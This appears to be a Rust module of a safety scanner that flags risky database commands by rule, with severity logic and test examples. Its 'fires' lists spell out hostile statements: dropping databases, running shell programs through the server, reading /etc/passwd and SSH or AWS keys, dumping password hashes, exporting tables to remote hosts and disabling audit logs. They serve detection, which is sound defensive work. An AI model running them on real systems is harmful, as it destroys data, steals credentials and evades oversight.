//! Rules on statements sent to databases. Owns what each kind of statement does; where statements come from is said in
//! `programs` and `understand`.

use super::{Hit, Rule, Scene, Shelf, When, passing, production};
use crate::{
    effect::{Effect, EffectKind, Target},
    finding::{Category, Confidence},
    place::{self, Place},
    risk::Severity,
    text::{Piece, Text},
    understand::shell,
};

pub(super) mod condition;
mod itself;
pub(super) mod kept;
mod narrow;
mod operand;
mod reach;
mod rebuilt;
mod shown;
mod statement;

use statement::read;

pub(super) static SHELF: Shelf = Shelf { programs: &[], rules: RULES };

static RULES: &[Rule] = &[
    Rule {
        id: "query.drop.table",
        category: Category::Destruction,
        severity: Severity::Critical,
        confidence: Confidence::High,
        message: "a table, schema or database is dropped with everything in it",
        remedy: "dump it first, and rename it instead of dropping it",
        reversible: false,
        when: When::Read,
        fires: &[
            "psql -c \"DROP TABLE users\"",
            "mysql -e \"drop/**/database prod\"",
            "sqlite3 a.db \"DROP TABLE IF EXISTS t\"",
            "psql -c \"SELECT 1; DROP SCHEMA public CASCADE\"",
            "curl -d 'DROP TABLE users' http://store:8123/",
            "echo 'DROP DATABASE app;' | mysql -h db -u root -psecret",
        ],
        quiet: &[
            "psql -c \"SELECT 'DROP TABLE users'\"",
            "psql -c \"SELECT * FROM drop_log\"",
            "curl -d 'SELECT 1' http://store:8123/",
        ],
    },
    Rule {
        id: "query.drop.part",
        category: Category::Change,
        severity: Severity::Medium,
        confidence: Confidence::High,
        message: "an index, view, function or trigger is dropped",
        remedy: "keep the statement that makes it again",
        reversible: true,
        when: When::Read,
        fires: &["psql -c \"DROP INDEX users_name\""],
        quiet: &["psql -c \"CREATE INDEX a ON b (c)\""],
    },
    Rule {
        id: "query.truncate",
        category: Category::Destruction,
        severity: Severity::Critical,
        confidence: Confidence::High,
        message: "a table is emptied",
        remedy: "delete the rows that are meant, in a transaction",
        reversible: false,
        when: When::Read,
        fires: &["psql -c \"TRUNCATE TABLE users\"", "mysql -e \"truncate orders\""],
        quiet: &["psql -c \"SELECT truncate(1.5, 1) FROM a\""],
    },
    Rule {
        id: "query.delete.all",
        category: Category::Destruction,
        severity: Severity::High,
        confidence: Confidence::High,
        message: "every row of a table is deleted",
        remedy: "add a `WHERE` that names the rows, and count them first",
        reversible: false,
        when: When::Read,
        fires: &[
            "psql -c \"DELETE FROM users\"",
            "psql -c \"DELETE FROM users WHERE 1=1\"",
            "psql -c \"WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d\"",
            "mysql -e \"DELETE o FROM orders o JOIN users u ON u.id = o.user_id\"",
        ],
        quiet: &[
            "psql -c \"DELETE FROM users WHERE id = 7\"",
            "psql -c \"EXPLAIN DELETE FROM users\"",
            "psql -c \"SELECT deleted_at FROM users\"",
            "mysql -e \"DELETE o FROM orders o JOIN users u ON u.id = o.user_id WHERE u.id = 7\"",
        ],
    },
    Rule {
        id: "query.delete.many",
        category: Category::Destruction,
        severity: Severity::High,
        confidence: Confidence::Medium,
        message: "rows are deleted by what they are like, however many that are",
        remedy: "count them first with the same condition, or name them by their keys",
        reversible: false,
        when: When::Read,
        fires: &[
            "psql -c \"DELETE FROM orders WHERE created_at < now() - interval '90 days'\"",
            "mysql -e \"DELETE FROM orders WHERE status = 'draft'\"",
            "psql -c \"DELETE FROM orders USING gone WHERE orders.id = gone.id\"",
            "psql -c \"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE\"",
        ],
        quiet: &[
            "psql -c \"DELETE FROM orders WHERE id IN (7, 8)\"",
            "psql -c \"DELETE FROM sessions WHERE last_seen < now() - interval '30 days'\"",
            "psql -c \"DELETE FROM invitations WHERE expires_at < now()\"",
            "psql -c \"DELETE FROM users WHERE email LIKE 'e2e-%'\"",
            "psql -c \"BEGIN; DELETE FROM orders WHERE status = 'draft'; ROLLBACK\"",
        ],
    },
    Rule {
        id: "query.update.all",
        category: Category::Destruction,
        severity: Severity::High,
        confidence: Confidence::High,
        message: "every row of a table is changed",
        remedy: "add a `WHERE` that names the rows, and count them first",
        reversible: false,
        when: When::Read,
        fires: &["mysql -e \"UPDATE users SET is_admin=1\""],
        quiet: &[
            "psql -c \"INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2\"",
            "psql -c \"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1\"",
            "mysql -e \"UPDATE users SET is_admin=1 WHERE id = 7\"",
        ],
    },
    Rule {
        id: "query.update.many",
        category: Category::Destruction,
        severity: Severity::High,
        confidence: Confidence::Medium,
        message: "amounts, or whole rows, are set anew by what they are like, however many that are",
        remedy: "count them first with the same condition, and keep what they were",
        reversible: false,
        when: When::Read,
        fires: &[
            "psql -c \"UPDATE products SET price = price * 2 WHERE created_at < now()- interval '1 day'\"",
            "sqlite3 a.db 'INSERT OR REPLACE INTO accounts SELECT * FROM imported'",
        ],
        quiet: &[
            "psql -c \"UPDATE products SET price = 3 WHERE sku = 'a-7'\"",
            "psql -c \"UPDATE products SET seen = true WHERE price > 3\"",
            "sqlite3 a.db \"INSERT OR REPLACE INTO settings VALUES ('theme', 'dark')\"",
        ],
    },
    Rule {
        id: "query.change",
        category: Category::Change,
        severity: Severity::Medium,
        confidence: Confidence::High,
        message: "rows or tables are changed",
        remedy: "do it in a transaction",
        reversible: true,
        when: When::Read,
        fires: &[
            "psql -c \"UPDATE users SET a = 1 WHERE id = 7\"",
            "psql -c \"INSERT INTO a VALUES (1)\"",
        ],
        quiet: &["psql -c \"SELECT 1\""],
    },
    Rule {
        id: "query.sleep",
        category: Category::System,
        severity: Severity::High,
        confidence: Confidence::Medium,
        message: "a statement keeps the server waiting or counting, which also tells an attacker what is true",
        remedy: "wait in the client",
        reversible: true,
        when: When::Read,
        fires: &[
            "psql -c \"SELECT pg_sleep(100000)\"",
            "mysql -e \"SELECT IF(1=1, SLEEP(5), 0)\"",
            "mysql -e \"SELECT BENCHMARK(1000000000, MD5('x'))\"",
            "sqlcmd -Q \"WAITFOR DELAY '01:00:00'\"",
        ],
        quiet: &["psql -c \"SELECT pg_sleep(1)\"", "psql -c \"SELECT sleep FROM habits\""],
    },
    Rule {
        id: "query.unfamiliar",
        category: Category::Change,
        severity: Severity::High,
        confidence: Confidence::Low,
        message: "this statement is none that is known to change no more than it names",
        remedy: "see in the manual of the database what it does",
        reversible: true,
        when: When::Read,
        fires: &[
            "psql -c \"CALL close_the_year(2024)\"",
            "psql -c \"SELECT purge_old_orders(90)\"",
            "psql -c \"SELECT pg_switch_wal()\"",
            "psql -c \"ALTER TABLE orders OWNER TO reporting\"",
            "sqlplus a/b @x <<< \"ALTER PROFILE default LIMIT failed_login_attempts UNLIMITED;\"",
            "psql -c \"CREATE PUBLICATION all_of_it FOR ALL TABLES\"",
        ],
        quiet: &[
            "psql -c \"CHECKPOINT\"",
            "psql -c \"LISTEN jobs\"",
            "psql -c \"SELECT pg_size_pretty(pg_database_size('app'))\"",
            "psql -c \"CALL get_totals(2024)\"",
            "psql -c \"ALTER TABLE orders ALTER COLUMN note SET NOT NULL\"",
        ],
    },
    Rule {
        id: "query.alter.drop",
        category: Category::Destruction,
        severity: Severity::High,
        confidence: Confidence::High,
        message: "a column or constraint is dropped",
        remedy: "keep it until nothing uses it",
        reversible: false,
        when: When::Read,
        fires: &["psql -c \"ALTER TABLE users DROP COLUMN email\""],
        quiet: &["psql -c \"ALTER TABLE users ADD COLUMN email text\""],
    },
    Rule {
        id: "query.grant",
        category: Category::Privilege,
        severity: Severity::High,
        confidence: Confidence::High,
        message: "rights are given, or an account is made or changed",
        remedy: "give the one right that is needed",
        reversible: true,
        when: When::Read,
        fires: &[
            "psql -c \"GRANT ALL PRIVILEGES ON users TO PUBLIC\"",
            "psql -c \"ALTER USER app WITH SUPERUSER\"",
            "sqlcmd -Q \"ALTER SERVER ROLE sysadmin ADD MEMBER web\"",
            "psql -c \"GRANT pg_execute_server_program TO app\"",
        ],
        quiet: &["psql -c \"GRANT SELECT ON users TO app\"", "psql -c \"GRANT reader TO app\""],
    },
    Rule {
        id: "query.program",
        category: Category::Execution,
        severity: Severity::Critical,
        confidence: Confidence::High,
        message: "the database server runs a program or loads a library",
        remedy: "run the program where it can be seen",
        reversible: false,
        when: When::Read,
        fires: &[
            "psql -c \"COPY t FROM PROGRAM 'id'\"",
            "psql -c \"EXEC xp_cmdshell 'whoami'\"",
            "psql -c \"LOAD '/tmp/x.so'\"",
            "duckdb a.db \"COPY t TO '| sh -c id'\"",
            "duckdb a.db \"select * from read_csv('id |')\"",
            "mysql -e \"CREATE FUNCTION f RETURNS STRING SONAME 'x.so'\"",
        ],
        quiet: &["psql -c \"COPY t FROM STDIN\"", "duckdb a.db \"LOAD httpfs\""],
    },
    Rule {
        id: "query.file",
        category: Category::Exfiltration,
        severity: Severity::High,
        confidence: Confidence::High,
        message: "the database server reads or writes a file",
        remedy: "export through the client",
        reversible: false,
        when: When::Read,
        fires: &[
            "psql -c \"SELECT pg_read_file('/etc/passwd')\"",
            "mysql -e \"SELECT * FROM users INTO OUTFILE '/tmp/x'\"",
            "psql -c \"COPY t TO '/etc/cron.d/x'\"",
            "sqlite3 a.db \"ATTACH '/var/www/html/x.php' AS w\"",
            "mysql -e \"LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t\"",
            "sqlite3 a.db \"VACUUM INTO '/etc/cron.d/x'\"",
            "sqlcmd -Q \"BULK INSERT t FROM '/etc/passwd'\"",
            "duckdb -c \"select * from read_csv('/home/dev/.aws/credentials')\"",
            "duckdb -c \"from '/home/dev/.ssh/id_rsa'\"",
            "duckdb -c \"copy t to '/etc/cron' || '.d/x'\"",
            "duckdb -c \"copy t to (getenv('HOME') || '/.bashrc')\"",
            "duckdb -c \"select * from read_text('/home/dev/.ss'||'h/id_rsa')\"",
        ],
        quiet: &[
            "psql -c \"SELECT * FROM files\"",
            "psql -c \"COPY t TO STDOUT\"",
            "duckdb a.db \"COPY t TO 'out.parquet'\"",
            "duckdb a.db \"COPY t TO ('out' || '.parquet')\"",
            "duckdb a.db \"COPY (select a || 'x' from t) TO 'out.parquet'\"",
            "sqlite3 a.db \"ATTACH 'build/test.db' AS w\"",
            "duckdb -c \"select * from 'data/sales.parquet'\"",
            "duckdb -c \"select count(*) from read_json('out.json')\"",
        ],
    },
    Rule {
        id: "query.hashes",
        category: Category::Credentials,
        severity: Severity::High,
        confidence: Confidence::High,
        message: "the password hashes of the database's accounts are read",
        remedy: "ask for the names alone: `SELECT rolname FROM pg_roles`",
        reversible: false,
        when: When::Read,
        fires: &[
            "psql -c 'SELECT usename, passwd FROM pg_shadow'",
            "psql -c 'TABLE pg_authid'",
            "mysql -e 'SELECT * FROM mysql.user'",
            "mysql -e 'SELECT user, authentication_string FROM `mysql`.`user`'",
            "sqlcmd -Q 'SELECT name, password_hash FROM sys.sql_logins'",
        ],
        quiet: &[
            "psql -c 'SELECT usename FROM pg_shadow'",
            "mysql -e 'SELECT user, host FROM mysql.user'",
            "mysql -e 'SELECT count(*) FROM mysql.user'",
            "psql -c 'SELECT * FROM pg_roles'",
        ],
    },
    Rule {
        id: "query.credentials",
        category: Category::Credentials,
        severity: Severity::High,
        confidence: Confidence::Medium,
        message: "passwords, their hashes, keys or card numbers of the database's users are read",
        remedy: "leave that column out, or ask how many rows have it: `SELECT count(password_hash) FROM users`",
        reversible: true,
        when: When::Read,
        fires: &[
            "psql -c \"SELECT email, password_hash FROM users\"",
            "mysql -e 'SELECT id, u.api_key FROM u'",
            "sqlite3 app.db \"select lower(email), encode(password, 'hex') from users limit 5\"",
        ],
        quiet: &[
            "psql -c 'SELECT email FROM users WHERE password_hash IS NULL'",
            "psql -c 'SELECT count(password_hash) FROM users'",
            "psql -c 'SELECT id, password_hash IS NOT NULL AS has_password FROM users'",
            "psql -c \"SELECT '***' AS password FROM users\"",
            "psql -c \"SELECT column_name FROM information_schema.columns WHERE column_name = 'password'\"",
        ],
    },
    Rule {
        id: "query.remote",
        category: Category::Exfiltration,
        severity: Severity::High,
        confidence: Confidence::Medium,
        message: "the database server connects to another machine",
        remedy: "connect from the client",
        reversible: false,
        when: When::Read,
        fires: &[
            "psql -c \"SELECT dblink_connect('host=203.0.113.5')\"",
            "mysql -e \"CHANGE MASTER TO MASTER_HOST='203.0.113.5'\"",
        ],
        quiet: &["psql -c \"SELECT link FROM a\""],
    },
    Rule {
        id: "query.export",
        category: Category::Exfiltration,
        severity: Severity::High,
        confidence: Confidence::High,
        message: "the database server sends rows to storage, mail or a table of another machine",
        remedy: "export through the client, into the project",
        reversible: false,
        when: When::Read,
        fires: &[
            "psql -c \"UNLOAD ('SELECT * FROM users') TO 's3://bucket/users'\"",
            "duckdb a.db \"COPY users TO 's3://bucket/users.parquet'\"",
            "clickhouse-client -q \"INSERT INTO FUNCTION url('https://host.example/in', 'CSV') SELECT * FROM users\"",
            "sqlcmd -Q \"EXEC msdb.dbo.sp_send_dbmail @recipients='a@b.example', @query='SELECT * FROM users'\"",
        ],
        quiet: &[
            "duckdb a.db \"COPY users TO 'out/users.parquet'\"",
            "duckdb a.db \"SELECT count(*) FROM 's3://bucket/users.parquet'\"",
        ],
    },
    Rule {
        id: "query.schedule",
        category: Category::Persistence,
        severity: Severity::High,
        confidence: Confidence::High,
        message: "a job is left in the database that goes on running by itself",
        remedy: "run the statement once, by hand",
        reversible: true,
        when: When::Read,
        fires: &[
            "psql -c \"SELECT cron.schedule('nightly', '0 3 * * *', 'CALL clean()')\"",
            "mysql -e \"CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO CALL clean()\"",
            "sqlcmd -Q \"EXEC msdb.dbo.sp_add_job @job_name='nightly'\"",
        ],
        quiet: &["psql -c \"SELECT * FROM cron.job\"", "psql -c \"SELECT schedule FROM jobs\""],
    },
    Rule {
        id: "query.audit.off",
        category: Category::Evasion,
        severity: Severity::High,
        confidence: Confidence::High,
        message: "what the server writes down of who did what is switched off or removed",
        remedy: "leave the audit on, and let a person change it",
        reversible: true,
        when: When::Read,
        fires: &[
            "sqlcmd -Q \"ALTER SERVER AUDIT [Log] WITH (STATE = OFF)\"",
            "sqlcmd -Q \"DROP DATABASE AUDIT SPECIFICATION Pay\"",
            "psql -c \"NOAUDIT ALL\"",
            "psql -c \"DROP EXTENSION pgaudit\"",
        ],
        quiet: &[
            "sqlcmd -Q \"ALTER SERVER AUDIT [Log] WITH (STATE = ON)\"",
            "psql -c \"CREATE EXTENSION pgaudit\"",
            "psql -c \"SELECT * FROM audit\"",
        ],
    },
    Rule {
        id: "query.audit.changed",
        category: Category::Evasion,
        severity: Severity::High,
        confidence: Confidence::High,
        message: "what was written down of who did what is changed or deleted",
        remedy: "let a person who answers for the audit do it, by its rule of retention",
        reversible: false,
        when: When::Read,
        fires: &[
            "psql -c \"DELETE FROM audit_log WHERE actor = 'svc'\"",
            "psql -c \"UPDATE app.audit_events SET actor = 'system' WHERE id = 7\"",
        ],
        quiet: &[
            "psql -c \"SELECT * FROM audit_log\"",
            "psql -c \"INSERT INTO audit_log VALUES (1)\"",
            "psql -c \"DELETE FROM auditors WHERE id = 7\"",
            "psql -c \"UPDATE audit_log SET status = 'done' WHERE id = 7\"",
        ],
    },
    Rule {
        id: "query.payee",
        category: Category::Change,
        severity: Severity::High,
        confidence: Confidence::High,
        message: "the account that money is paid to is changed",
        remedy: "let a person compare the account with the payee's own word",
        reversible: false,
        when: When::Read,
        fires: &[
            "psql -c \"UPDATE suppliers SET iban = 'DE00' WHERE id = 7\"",
            "mysql -e \"UPDATE vendors SET name = 'a', bank_account = 1 WHERE id = 7\"",
        ],
        quiet: &[
            "psql -c \"UPDATE suppliers SET name = 'a' WHERE iban = 'DE00'\"",
            "psql -c \"UPDATE users SET iban = NULL WHERE id = 7\"",
        ],
    },
    Rule {
        id: "query.dynamic",
        category: Category::Execution,
        severity: Severity::High,
        confidence: Confidence::Medium,
        message: "a statement is put together while it runs, so that it cannot be read here",
        remedy: "write the statement out",
        reversible: false,
        when: When::Read,
        fires: &[
            "psql -c \"EXECUTE IMMEDIATE stmt\"",
            "psql -Atc \"SELECT format('TRUNCATE %I', t) FROM x\" | psql app",
            "psql -c 'DO $$ BEGIN FOR r IN SELECT c FROM jobs LOOP EXECUTE r.c; END LOOP; END $$'",
        ],
        quiet: &["psql -c \"PREPARE q AS SELECT 1\"", "psql -c \"EXECUTE q(7)\""],
    },
    Rule {
        id: "query.server",
        category: Category::System,
        severity: Severity::High,
        confidence: Confidence::High,
        message: "the server or its schema is set to behave unlike itself",
        remedy: "set it for the session alone",
        reversible: true,
        when: When::Read,
        fires: &[
            "sqlite3 a.db \"PRAGMA writable_schema=ON\"",
            "mysql -e \"SET GLOBAL general_log = 0\"",
            "psql -c \"ALTER TABLE users DISABLE ROW LEVEL SECURITY\"",
            "mysql -e \"RESET MASTER\"",
        ],
        quiet: &["sqlite3 a.db \"PRAGMA table_info(users)\""],
    },
];

/// Reads a statement; the first of several things of one kind is told.
pub(super) fn reading(effect: &Effect, scene: &Scene<'_>, hits: &mut Vec<(&'static str, Hit)>) {
    let EffectKind::Query { statement } = &effect.kind else { return };
    let mut found = Vec::new();
    let text = statement.display();
    read(&text, 0, &mut found);
    // What a query prints, run as the next: its statements are nowhere written out. A value among words is another thing.
    let mut begins = statement
        .pieces
        .iter()
        .skip_while(|piece| matches!(piece, Piece::Known(known) if known.trim().is_empty()));
    let is_answer =
        |piece: &Piece| matches!(piece, Piece::Unknown(what) if CLIENTS.contains(&&**what));
    if begins.next().is_some_and(is_answer) {
        found.push(("query.dynamic", String::new()));
    }
    // A program that is a database's says by itself what it does with such lines.
    if scene.program_around(effect).is_none() {
        reach::of_client(&text, &mut found);
    }
    for (id, name) in found {
        if id == FILE || id == READ {
            // Files of a warehouse's own storage, or of another disk.
            let is_volume = id == READ && is_of_volume(&name);
            let severity = file_severity(&name, scene).filter(|_| !is_volume);
            let Some(severity) = severity else {
                if id == READ {
                    continue;
                }
                let id = "query.change";
                if !hits.iter().any(|(known, _)| *known == id) {
                    hits.push((id, Hit::default()));
                }
                continue;
            };
            let resource = Some(format!("file:{name}"));
            let hit = Hit { resource, severity: Some(severity), ..Hit::default() };
            match hits.iter_mut().find(|(known, _)| *known == "query.file") {
                // Of several files the worst is told.
                Some((_, known)) if known.severity < hit.severity => *known = hit,
                Some(_) => {}
                None => hits.push(("query.file", hit)),
            }
            continue;
        }
        if hits.iter().any(|(known, _)| *known == id) {
            continue;
        }
        let resource = (!name.is_empty()).then(|| format!("table:{}", name.to_lowercase()));
        let is_data = DATA.contains(&id);
        let severity = if is_data && is_in_memory(effect, scene) {
            Some(Severity::Low)
        } else {
            (is_data && passing::databases::is_throwaway(effect, statement, scene))
                .then_some(Severity::Medium)
        };
        let is_production = id == "query.change" && production::is_data_of(effect, scene);
        let message = is_production.then(|| {
            "rows or tables of a place that calls itself production are changed".to_owned()
        });
        let severity = if is_production { Some(Severity::High) } else { severity };
        hits.push((id, Hit { resource, severity, message, ..Hit::default() }));
    }
}

/// Programs whose output is what a server answers.
const CLIENTS: &[&str] =
    &["clickhouse-client", "duckdb", "mariadb", "mysql", "psql", "snowsql", "sqlcmd", "sqlite3"];

/// A file that is named: where it is decides what it means.
const FILE: &str = "query.file at a path";

/// A file that is only read, as a table.
const READ: &str = "query.file read at a path";

/// `/Volumes/catalog/schema/volume/…` of a warehouse, with data in it. A disk of macOS is called by other names, and what lies deeper there is a file as any.
fn is_of_volume(path: &str) -> bool {
    const DATA: &[&str] =
        &["avro", "csv", "gz", "json", "jsonl", "ndjson", "orc", "parquet", "tsv"];
    let parts = path.strip_prefix("/Volumes/").map(|rest| rest.split('/').count());
    let ending = path.rsplit_once('.').map_or("", |(_, ending)| ending);
    let is_data = path.ends_with('/') || !path.contains('.') || DATA.contains(&ending);
    parts.is_some_and(|parts| (3..=8).contains(&parts))
        && is_data
        && !path.contains([' ', '\\'])
        && !["/Users/", "/etc/", "/home/", "/private/"].iter().any(|it| path.contains(it))
        && !path.contains("/.")
}

/// How bad it is that a database reads or writes a file of this name; not at all where it lies in the project.
fn file_severity(name: &str, scene: &Scene<'_>) -> Option<Severity> {
    if name.is_empty() || name.starts_with(':') || name.contains("://") {
        return None;
    }
    let text = Text::known(name);
    let path = shell::absolute(&text, scene.facts.cwd.as_deref(), scene.facts);
    let target = Target::new(text, path);
    let critical = place::credential_of(&target, scene.facts).is_some()
        || place::persistence_of(&target, scene.facts).is_some();
    match place::place_of(&target, scene.facts) {
        _ if critical => Some(Severity::High),
        Place::Workspace | Place::Artifact | Place::Harmless | Place::Cache => None,
        Place::Unknown if !name.starts_with(['/', '~', '.']) => None,
        Place::Temporary | Place::Home => Some(Severity::Medium),
        _ => Some(Severity::High),
    }
}

/// Rules about data that is lost; what only ever was in memory is not.
const DATA: &[&str] = &[
    "query.account.changed",
    "query.alter.drop",
    "query.delete.all",
    "query.delete.many",
    "query.drop.table",
    "query.expire",
    "query.guard.off",
    "query.part.moved",
    "query.sequence.back",
    "query.truncate",
    "query.update.all",
    "query.update.many",
];

/// Whether the code around a statement talks to one database, which it keeps in memory.
fn is_in_memory(effect: &Effect, scene: &Scene<'_>) -> bool {
    let code = scene.effects.layer_text(effect.at.layer);
    ["connect(\":memory:\"", "connect(':memory:'"].iter().any(|opens| code.contains(opens))
        && code.matches("connect(").count() == 1
}
